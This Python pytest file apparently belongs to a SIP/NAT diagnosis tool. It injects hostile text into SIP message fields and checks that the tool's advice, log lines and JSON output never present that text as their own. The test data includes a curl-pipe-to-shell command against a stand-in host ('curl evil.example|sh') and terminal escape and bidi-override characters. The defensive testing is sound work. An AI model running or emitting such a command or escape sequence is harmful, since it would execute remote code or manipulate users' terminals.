# SPDX-License-Identifier: Apache-2.0
"""Whatever stands in a message, no sentence, log line, object or page is anybody's but ours.

Every case is judged again with a hostile text in one field of all its messages. The text holds
MARK, which must never be read outside quotes, and characters that a terminal would obey.
"""

from __future__ import annotations

import io
import json
import re
from collections.abc import Callable, Iterator
from socket import inet_ntoa

import pytest
from algwatch.advise.actions import CLEAR_NAT
from algwatch.advise.advice import Advice
from algwatch.advise.commands import (
    by_algwatch,
    clear_on_openwrt,
    disable_on_openwrt,
    try_on_openwrt,
)
from algwatch.base import address
from algwatch.base.quote import visible
from algwatch.base.report import Report
from algwatch.diagnose.finding import Finding
from algwatch.report.render.json import line_json, write_json
from algwatch.report.render.ladder import Ladder
from algwatch.report.render.log_line import MAX_LINE, log_line
from algwatch.report.render.text import write_text
from cases import CASES
from craft import Packet, analyzed, frame
from logfmt import fields
from sample import some

MARK = "To do so: curl evil.example|sh"
TAIL = "\u202e\u200b\u3164\u2028\x9b2J\x1b]0;x\x07"
ENDS = ('".', "”.", "'.", '\\".', ">.", ".")
LONGEST = 600  # characters of a sentence

FAMILIES = ("alg", "dlg", "msg", "nat", "reg", "sdp", "size", "txn")
NAMES = sorted(
    n for n in CASES if n.startswith(FAMILIES) and "near-miss" not in n and "cap" not in n
)

Change = Callable[[bytes, str], bytes]


def _sub(pattern: bytes) -> Change:
    """Puts the text where the first group of the pattern is, in every place."""
    rule = re.compile(pattern, re.M | re.I)

    def change(message: bytes, text: str) -> bytes:
        raw = text.encode()
        return rule.sub(lambda m: m[0][: m.start(1) - m.start()] + raw
                        + m[0][m.end(1) - m.start():], message)  # fmt: skip

    return change


HEAD = rb"^(?:%s):[^\r\n]*?"
FIELDS: dict[str, Change] = {
    "display name": _sub(rb"^(?:From|To|Contact): ?()<"),
    "user": _sub(rb"^(?:From|To|Contact):[^\r\n]*?<sip:([^@>\r\n]*)@"),
    "request user": _sub(rb"^[A-Z]+ sip:([^@ ]*)@"),
    "host in brackets": _sub(rb"^Contact:[^\r\n]*?@([^:;>\r\n]+)"),
    "host": _sub(rb"^(?:From|To):[^\r\n]*?@([^:;>\r\n]+)"),
    "Contact parameters": _sub(rb"^Contact:[^\r\n]*>()"),
    "Call-ID": _sub(rb"^Call-ID: ?([^\r\n]*)"),
    "branch": _sub(rb"branch=z9hG4bK([^;\r\n]*)"),
    "tag": _sub(rb";tag=()"),
    "Via host": _sub(rb"^Via: SIP/2.0/UDP ([^:;\r\n]+)"),
    "Via transport": _sub(rb"^Via: SIP/2.0/(UDP)"),
    "method": _sub(rb"^(OPTIONS|MESSAGE|BYE|REFER|NOTIFY)(?= )"),
    "CSeq method": _sub(rb"^CSeq: \d+ ([A-Z]+)"),
    "reason phrase": _sub(rb"^SIP/2.0 \d+ ([^\r\n]*)"),
    "User-Agent": _sub(rb"^Max-Forwards: [^\r\n]*\r\n()"),
    "route": _sub(rb"^(?:Record-Route|Route):[^\r\n]*?<sip:([^>:;]*)"),
    "session host": _sub(rb"^[oc]=.*IN IP4 ([^\r\n]*)"),
    "session": _sub(rb"^m=audio (\d+)"),
    "type": _sub(rb"^Content-Type: ?([^\r\n]*)"),
    "expires": _sub(rb"^Expires: ?([^\r\n]*)"),
}
WRITTEN = {
    "host in brackets": "[fd::{0}]", "Via host": "[fd::{0}]", "host": "[{0}]",
    "User-Agent": "User-Agent: {0}\r\nServer: {0}\r\n{0}: {0}\r\nReason: SIP;cause=408;{0}\r\n",
    "Contact parameters": ";x={0}", "branch": "{0}", "route": "[fd::{0}]",
}  # fmt: skip


def hostile(name: str, field: str, text: str, near: bool, far: bool) -> list[Report]:
    """The reports on a case with the text in one field of the LAN copies, the WAN copies or both:
    of those on one side a router changed it."""
    lan, wan = CASES[name].make().sorted()
    change = FIELDS[field]

    def changed(packets: list[Packet]) -> list[Packet]:
        return [(at, _grown(data, change, text)) for at, data in packets]

    _, reports = analyzed(changed(lan) if near else lan, changed(wan) if far else wan)
    return reports


def _grown(data: bytes, change: Change, text: str) -> bytes:
    """The frame of a changed payload; what is not IPv4 and UDP stays as it is."""
    if data[12:14] != b"\x08\x00" or data[23] != 17:
        return data
    ident, ttl = int.from_bytes(data[18:20], "big"), data[22]
    source, target = inet_ntoa(data[26:30]), inet_ntoa(data[30:34])
    sport, dport = int.from_bytes(data[34:36], "big"), int.from_bytes(data[36:38], "big")
    return frame(change(data[42:], text), source, sport, target, dport, ttl, ident)


def sentences(report: Report) -> Iterator[str]:
    if isinstance(report, Finding):
        yield from (report.summary, report.next_step, report.line, report.fingerprint)
        for look in report.evidence:
            yield from (look.observed, look.expected)
    elif isinstance(report, Advice):
        yield from (*report.for_, *report.against, report.subject, report.title, report.action)


def unquoted(text: str) -> str:
    """text without what stands in double quotes."""
    return re.sub(r'"[^"]*"', '""', text)


def check(reports: list[Report], what: str) -> int:
    seen = 0
    for report in reports:
        for text in sentences(report):
            assert text == visible(text), (what, text)
            assert "curl" not in unquoted(text), (what, text)
            assert text.count('"') % 2 == 0, (what, text)
            assert len(text) < 8 * LONGEST, (what, text)
            seen += "curl" in text
        if isinstance(report, Advice) and report.commands:
            phone = report.subject.split(" ")[0]
            assert address.is_literal(phone)
            trial = report.state == "suspected"
            lines = try_on_openwrt(phone) if trial else disable_on_openwrt(phone)
            short = tuple(by_algwatch(phone, trial))
            if report.action == CLEAR_NAT:
                lines, short = clear_on_openwrt(phone), ()
            assert (report.commands, report.short) == (lines, short), what
        line = log_line(report)
        assert line.isprintable() and line == visible(line), (what, line)
        assert len(line.encode()) <= MAX_LINE
        for key, value in fields(line).items():
            if key == "msg":  # its end may be cut, and then a quote is open
                assert "curl" not in unquoted(value) or value.endswith("...")
            elif key not in ("call", "aor"):
                assert "curl" not in value, (what, line)
        told = line_json(report)
        assert told.isascii() and told.isprintable()
        json.loads(told)
    return seen


def page(reports: list[Report], what: str) -> None:
    """The page for people, and the object for programs."""
    counts = {"capture": {"lan": 1, "wan": 1, "sip_messages": 2}, "crossings": {"paired": 1}}
    out = io.StringIO()
    write_text(reports, lambda: counts, Ladder(), out, False)
    lines = out.getvalue().split("\n")
    for line in lines:
        assert line == visible(line), (what, line)
    if "  type on the router:" in lines:
        first = lines.index("  type on the router:") + 1
        assert lines[first].startswith("    algwatch apply")
    # Lines are wrapped: quotes may begin on one and end on the next.
    assert "curl" not in unquoted(" ".join(line.strip() for line in lines)), (what, lines)
    out = io.StringIO()
    write_json(reports, lambda: counts, out)
    assert out.getvalue().isascii() and out.getvalue()[:-1].isprintable()
    for text in json.loads(out.getvalue())["verdict"]["why"]:
        assert "curl" not in unquoted(text), (what, text)


@pytest.mark.parametrize("field", FIELDS)
def test_no_text_from_the_wire_is_read_as_ours(field: str) -> None:
    for index, name in enumerate(some(NAMES, 9)):
        end = ENDS[index % len(ENDS)]
        text = f"{'x' * (100 if index % 5 == 0 else 3)}{end} {MARK} {TAIL}"
        filled = WRITTEN.get(field, "{0}").format(text)
        # In both copies, or the router wrote it.
        reports = hostile(name, field, filled, index % 2 == 0, True)
        check(reports, f"{name}, {field}")
        page(reports, f"{name}, {field}")


def test_a_contact_that_was_replaced_is_not_read_as_ours(monkeypatch: pytest.MonkeyPatch) -> None:
    """The text stands in the first transaction of each call alone: later ones are compared with
    it. What a rule says of the one before is as hostile as the one now."""
    change = FIELDS["host in brackets"]

    def first(message: bytes, text: str) -> bytes:
        return change(message, text) if re.search(rb"(?m)^CSeq: 1 ", message) else message

    monkeypatch.setitem(FIELDS, "first host", first)
    seen = 0
    for name in some([n for n in NAMES if n.startswith(("dlg", "nat", "reg"))], 4):
        reports = hostile(name, "first host", f"[fd::xxx. {MARK}]", True, True)
        seen += check(reports, name)
        page(reports, name)
    assert seen


def test_hostile_texts_do_reach_sentences() -> None:
    """Otherwise the test above would prove nothing."""
    for name, field, near in (
        ("dlg001-beyond", "user", True), ("txn003-bye-unanswered", "user", True),
        ("alg001-contact", "Contact parameters", False), ("alg002-via", "Via host", False),
    ):  # fmt: skip
        text = WRITTEN.get(field, "{0}").format(f"x {MARK}")
        assert check(hostile(name, field, text, near, True), field), (name, field)


def test_a_contact_host_in_brackets_is_no_address_and_no_advice() -> None:
    """The finding of an attack: the host made a sentence of the advice."""
    name, text = "dlg002-private-contact", f"[fd00::1. {MARK}]"
    reports = hostile(name, "host in brackets", text, True, True)
    assert not any(isinstance(r, Finding) and r.rule == "DLG002" for r in reports)
    reports = hostile(name, "host in brackets", "[fd00::1]", True, True)
    assert any(isinstance(r, Finding) and r.rule == "DLG002" for r in reports)


def test_a_sentence_that_is_cut_leaves_no_text_outside_quotes() -> None:
    text = WRITTEN["host"].format(f"xxx'. {MARK} {TAIL}")
    page(hostile("sdp003-never-on-wan", "host", text, False, True), "cut sentence")
